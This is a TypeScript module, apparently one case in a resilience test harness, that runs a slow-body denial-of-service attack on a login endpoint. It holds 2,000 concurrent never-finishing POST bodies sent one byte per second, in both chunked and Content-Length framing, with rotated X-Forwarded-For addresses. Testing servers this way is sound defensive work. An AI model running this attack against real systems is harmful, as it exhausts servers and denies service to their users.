// REST requests whose bodies never end.

import { type Attack, type Attacker, pause, repeat } from "../attacker.ts";
import { statusOf, Tcp } from "../tcp.ts";

/** Bodies under way, as in the case. */
const AT_ONCE = 2_000;
const PER_SECOND = 1_000;
/** Bytes that are sent of each body at once: nearly all that is taken. */
const BYTES = 60_000;
/** Time between two bytes after that, milliseconds. */
const DRIP_MS = 1_000;

const START = `{"username":"${"a".repeat(BYTES)}`;
const decoder = new TextDecoder();

/**
 * The case: 2,000 REST bodies that never end, 310 MB. Half of them say how long they will be, half come in chunks; all go on byte by
 * byte. What is answered or closed is begun anew.
 */
export function unfinishedBodies(addressOf: (n: number) => string): Attack {
  return (attacker) =>
    repeat(attacker, { atOnce: AT_ONCE, perSecond: PER_SECOND }, async (turn) => {
      const tcp = await Tcp.open(attacker.port, attacker.traffic);
      attacker.count("bodies");
      const over = answerOf(attacker, tcp);
      void send(tcp, { address: addressOf(turn), chunked: turn % 2 === 0 });
      await over;
    });
}

/** Reads the answer, if there is one, and drops the connection. */
async function answerOf(attacker: Attacker, tcp: Tcp): Promise<void> {
  let answered = false;
  await tcp.drain((bytes) => {
    const status = statusOf(decoder.decode(bytes));
    if (status === undefined) return;
    answered = true;
    attacker.count(`status ${status}`);
    tcp.close();
  });
  if (!answered) attacker.count("closed without an answer");
}

async function send(tcp: Tcp, { address, chunked }: { address: string; chunked: boolean }): Promise<void> {
  const framing = chunked ? "Transfer-Encoding: chunked" : `Content-Length: ${BYTES + 5_000}`;
  await tcp.write(
    `POST /api/auth/login HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Forwarded-For: ${address}\r\n` +
      `Content-Type: application/json\r\n${framing}\r\n\r\n`,
  );
  const piece = (text: string): string => chunked ? `${text.length.toString(16)}\r\n${text}\r\n` : text;
  for (let text = START; await tcp.write(piece(text)); text = "a") await pause(DRIP_MS);
}
